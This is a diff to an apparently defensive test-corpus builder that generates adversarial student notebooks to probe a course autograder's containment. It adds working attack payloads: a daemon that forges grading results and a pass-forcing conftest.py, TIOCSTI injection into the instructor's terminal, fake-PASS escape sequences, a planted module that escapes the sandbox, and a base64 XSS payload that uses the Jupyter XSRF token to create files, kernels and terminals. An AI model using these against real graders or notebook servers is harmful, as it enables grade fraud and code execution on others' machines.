@@ -10,6 +10,7 @@ the result.
 
 from __future__ import annotations
 
+import base64
 import copy
 import importlib.util
 import json
@@ -315,12 +316,13 @@ for target in [course / "gradebook.db", course / "autograder/FORGED_BY_STUDENT",
 """
 
 FORGED_HANDIN = """
-# After the grader's export cell: overwrite the hand-in with forged records, and leave a
-# process behind that keeps forging while the graders run.
+# A process that outlives the kernel and forges the hand-in while the graders run: started now,
+# told where the hand-in is right after the grader's export cell.
 import json, os, pathlib, re, time
 from IPython import get_ipython
 
 FORGED = {"passed": True, "score": 10, "message": "passed"}
+SIGNAL = pathlib.Path("handin-path.txt").resolve()
 
 def forge(folder):
     folder = pathlib.Path(folder)
@@ -332,25 +334,28 @@ def forge(folder):
     manifest.write_text(json.dumps(entries))
     (folder / "conftest.py").write_text("def pytest_runtest_call(item):\\n    return True\\n")
 
-def after_export(result):
-    found = re.search(r"'(/[^']*course-handin-[^']*)'", result.info.raw_cell or "")
-    if not found:
-        return
-    forge(found.group(1))
-    middle = os.fork()
-    if middle == 0:  # a daemon that outlives the kernel, still forging
-        os.setsid()
-        daemon = os.fork()
-        if daemon == 0:
-            for _ in range(600):
-                try:
-                    forge(found.group(1))
-                except OSError:
-                    pass
-                time.sleep(0.1)
-        pathlib.Path("/dev/shm/course-adversarial-daemon.pid").write_text(str(daemon))
+reader, writer = os.pipe()
+middle = os.fork()
+if middle == 0:  # a daemon in a session of its own, that the kernel's death does not end
+    os.setsid()
+    daemon = os.fork()
+    if daemon == 0:
+        for _ in range(3000):
+            try:
+                forge(SIGNAL.read_text())
+            except (OSError, ValueError):
+                pass
+            time.sleep(0.1)
         os._exit(0)
-    os.waitpid(middle, 0)
+    os.write(writer, str(daemon).encode())
+    os._exit(0)
+os.waitpid(middle, 0)
+print("daemon pid:", os.read(reader, 32).decode())
+
+def after_export(result):
+    if "export_namespace" in (result.info.raw_cell or ""):
+        SIGNAL.write_text(re.findall(r"'(/[^']+)'", result.info.raw_cell)[-1])
+        time.sleep(0.5)
 
 get_ipython().events.register("post_run_cell", after_export)
 """
@@ -412,6 +417,200 @@ try:
 except OSError as exc:
     print("UDP send refused:", exc)
 """
+
+
+# --- containment, part 2: what surrounds the kernel --------------------------------------------
+
+LAMBDA_WRITES_FILES = """
+# After the grader's export cell: replace the saved model by one whose Lambda layer calls a public
+# Keras function that writes a file, through a link planted in the hand-in folder.
+import json, pathlib, re, zipfile
+import course_lib
+from IPython import get_ipython
+
+TARGET = pathlib.Path(course_lib.__file__).resolve().parents[1] / "autograder" / "FORGED_BY_STUDENT"
+
+def plant(result):
+    if "export_namespace" not in (result.info.raw_cell or ""):
+        return
+    handin = pathlib.Path(re.findall(r"'(/[^']+)'", result.info.raw_cell)[-1])
+    link = handin / "gallery.png"
+    link.symlink_to(TARGET)
+    gallery = layers.Lambda(
+        keras.visualization.plot_image_gallery,
+        arguments={"path": str(link), "rows": 1, "cols": 1},
+        output_shape=(1,),
+    )
+    inputs = keras.Input(shape=(n_features,))
+    writer = keras.Sequential([inputs, layers.Reshape((1, n_features, 1)), gallery])
+    writer.compile(loss="mse", run_eagerly=True)
+    saved = handin / "model.keras"
+    writer.save(saved)
+    with zipfile.ZipFile(saved) as original:
+        files = {name: original.read(name) for name in original.namelist()}
+    config = json.loads(files["config.json"])
+    config["config"]["layers"][-1]["config"]["function"]["module"] = "keras.visualization"
+    files["config.json"] = json.dumps(config).encode()
+    with zipfile.ZipFile(saved, "w") as forged:
+        for name, data in files.items():
+            forged.writestr(name, data)
+
+get_ipython().events.register("post_run_cell", plant)
+"""
+
+TTY_INJECTION = """
+# Find the terminal of the process that grades this notebook, write to it and type a command
+# into it (TIOCSTI), for the instructor's shell to run once grading ends.
+import fcntl, os, termios
+
+def ancestors(pid):
+    while pid > 1:
+        with open(f"/proc/{pid}/stat") as stat:
+            fields = stat.read().rsplit(")", 1)[1].split()
+        yield pid, int(fields[4])  # the controlling terminal, as a device number
+        pid = int(fields[1])
+
+def type_into(fd, text):
+    for char in text.encode():
+        fcntl.ioctl(fd, termios.TIOCSTI, bytes([char]))
+
+COMMAND = "echo INJECTED-BY-STUDENT > /tmp/INJECTED_BY_STUDENT\\n"
+terminals = sorted({tty for _, tty in ancestors(os.getpid()) if tty})
+for tty in terminals:
+    path = f"/dev/pts/{(tty & 0xFF) | ((tty >> 12) & 0xFFF00)}"
+    try:
+        fd = os.open(path, os.O_RDWR | os.O_NOCTTY)
+        os.write(fd, b"\\r\\nWRITTEN-BY-STUDENT\\r\\n")
+        type_into(fd, COMMAND)
+        print("typed into", path)
+    except OSError as exc:
+        print("cannot reach", path, "-", type(exc).__name__)
+for path in ["/dev/tty", "/dev/console", "/dev/ptmx"]:
+    try:
+        os.open(path, os.O_RDWR | os.O_NOCTTY)
+        print("opened", path)
+    except OSError as exc:
+        print("cannot open", path, "-", type(exc).__name__)
+for fd in (0, 1, 2):
+    try:
+        type_into(fd, COMMAND)
+        print("typed into fd", fd)
+    except OSError as exc:
+        print("cannot type into fd", fd, "-", type(exc).__name__)
+print("terminals above me:", len(terminals))
+print("own session:", os.getsid(0) == os.getpid())
+n_params = n_features + 1
+"""
+
+ESC = "\x1b"
+
+TERMINAL_ESCAPES_MODEL = r"""
+raise ValueError("\x1b[2K\x1b[1A\x1b[2K\r  PASS  architecture      2/2  passed\x1b[0m")
+"""
+
+TERMINAL_ESCAPES_CRASH = f"""
+n_params = 11  # {ESC}[2K{ESC}[1A{ESC}[31m
+import os
+os._exit(3)
+"""
+
+ENVIRONMENT_AND_DISPLAY_FLOOD = """
+# Read the grader's environment, and flood every kind of rich output.
+import os
+from IPython.display import HTML, display
+
+print("environment:", sorted(os.environ.items()))
+big = "x" * 20_000_000
+display(HTML("<b>" + big + "</b>"))
+display({"text/plain": big, "application/json": {"big": big}}, raw=True)
+n_params = n_features
+big
+"""
+
+PLANTED_COURSE_LIB = """
+# Leave a course_lib of my own in the working folder, then make the kernel die: the grader starts
+# a new kernel from this folder, and imports my course_lib outside the sandbox.
+import os, pathlib
+import course_lib
+
+real = pathlib.Path(course_lib.__file__).resolve().parents[1]
+targets = [real / "autograder" / "FORGED_BY_STUDENT", pathlib.Path("/tmp/FORGED_BY_STUDENT")]
+pathlib.Path("course_lib/grader").mkdir(parents=True, exist_ok=True)
+pathlib.Path("course_lib/__init__.py").write_text("")
+pathlib.Path("course_lib/grader/__init__.py").write_text("")
+pathlib.Path("course_lib/grader/sandbox.py").write_text(
+    "import pathlib, runpy, sys\\n"
+    f"for target in {[str(t) for t in targets]!r}:\\n"
+    "    try:\\n"
+    "        pathlib.Path(target).write_text('escaped')\\n"
+    "    except OSError:\\n"
+    "        pass\\n"
+    f"sys.path.insert(0, {str(real)!r})\\n"
+    "for name in [m for m in sys.modules if m.startswith('course_lib')]:\\n"
+    "    del sys.modules[name]\\n"
+    "runpy.run_module('course_lib.grader.sandbox', run_name='__main__')\\n"
+)
+n_params = n_features + 1
+os._exit(1)
+"""
+
+XSS_PAYLOAD = """
+(async () => {
+  window.__courseAttack = (window.__courseAttack || 0) + 1;
+  const xsrf = decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/) || ["", ""])[1]);
+  const init = (body) => ({method: body ? "PUT" : "POST", credentials: "same-origin",
+    headers: {"X-XSRFToken": xsrf, "Content-Type": "application/json"},
+    body: JSON.stringify(body || {})});
+  await fetch("/api/contents/WRITTEN_BY_STUDENT.txt",
+    init({type: "file", format: "text", content: "the student's script ran"}));
+  await fetch("/api/kernels", init());
+  await fetch("/api/terminals", init());
+})();
+"""
+
+OUTPUTS_THAT_RUN_SCRIPTS = """
+# A correct solution whose outputs run a script wherever the notebook is shown.
+import base64
+from IPython.display import HTML, SVG, Javascript, Markdown, display
+
+attack = "eval(atob('{payload}'))"
+display(HTML(f'<img src="x" onerror="{{attack}}">'))
+display(HTML(f"<script>{{attack}}</script>"))
+display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{{attack}}"><circle r="4"/></svg>'))
+display(Javascript(attack))
+display(Markdown(f'**done** <img src="x" onerror="{{attack}}">'))
+display({{"image/png": f'x" onerror="{{attack}}'}}, raw=True)
+display({{"text/html": f'<iframe srcdoc="<script>parent.{{attack}}</script>"></iframe>',
+          "application/vnd.jupyter.widget-view+json": {{"model_id": "x", "version_major": 2}}}},
+        raw=True)
+PNG_1PX = (
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5E"
+    "rkJggg=="
+)
+display({{"image/png": PNG_1PX}}, metadata={{"image/png": {{"width": f'1" onload="{{attack}}'}}}},
+        raw=True)
+""".replace("{payload}", base64.b64encode(XSS_PAYLOAD.encode()).decode())
+
+STUDENT_MARKDOWN_CELL = (
+    'My notes <img src="x" onerror="eval(atob(\'{payload}\'))">\n\n'
+    "[click me](javascript:eval(atob('{payload}')))"
+).replace("{payload}", base64.b64encode(XSS_PAYLOAD.encode()).decode())
+
+STUDENT_RAW_CELL = "<script>eval(atob('{payload}'))</script>".replace(
+    "{payload}", base64.b64encode(XSS_PAYLOAD.encode()).decode()
+)
+
+
+def add_text_cells_at_end(markdown: str, raw: str) -> Callable:
+    """A markdown cell and a raw cell of the student's own, with no nbgrader metadata."""
+
+    def edit(notebook):
+        notebook.cells.append(nbformat.v4.new_markdown_cell(markdown))
+        notebook.cells.append(nbformat.v4.new_raw_cell(raw))
+        return notebook
+
+    return edit
+
 
 # --- the corpus: name → (lesson, base, edits) -------------------------------------------------
 
@@ -554,6 +753,41 @@ NOTEBOOKS: dict[str, tuple[str, str, Callable | None]] = {
     "other_lesson": ("04_mnist_ann", "untouched", None),
     # 7. network
     "network": ("01_regression", "untouched", set_source("part_c_answer", NETWORK_PROBE)),
+    # 8. containment, part 2: the grader, the instructor's terminal, the viewers
+    "lambda_writes_files": (
+        "01_regression",
+        "solution",
+        chain(prepend("part_a_answer", LAMBDA_WRITES_FILES), FAST_TRAINING),
+    ),
+    "tty_injection": ("01_regression", "untouched", set_source("part_c_answer", TTY_INJECTION)),
+    "terminal_escapes": (
+        "01_regression",
+        "solution",
+        chain(
+            prepend("part_b_answer", TERMINAL_ESCAPES_MODEL),
+            set_source("part_c_answer", TERMINAL_ESCAPES_CRASH),
+        ),
+    ),
+    "environment_and_display_flood": (
+        "01_regression",
+        "untouched",
+        set_source("part_c_answer", ENVIRONMENT_AND_DISPLAY_FLOOD),
+    ),
+    "planted_course_lib": (
+        "01_regression",
+        "untouched",
+        set_source("part_c_answer", PLANTED_COURSE_LIB),
+    ),
+    "outputs_that_run_scripts": (
+        "01_regression",
+        "solution",
+        chain(
+            append("part_e_answer", OUTPUTS_THAT_RUN_SCRIPTS),
+            FAST_TRAINING,
+            add_cell_at_end('print("my own extra cell")'),
+            add_text_cells_at_end(STUDENT_MARKDOWN_CELL, STUDENT_RAW_CELL),
+        ),
+    ),
 }
 
 RAW_FILES: dict[str, bytes] = {
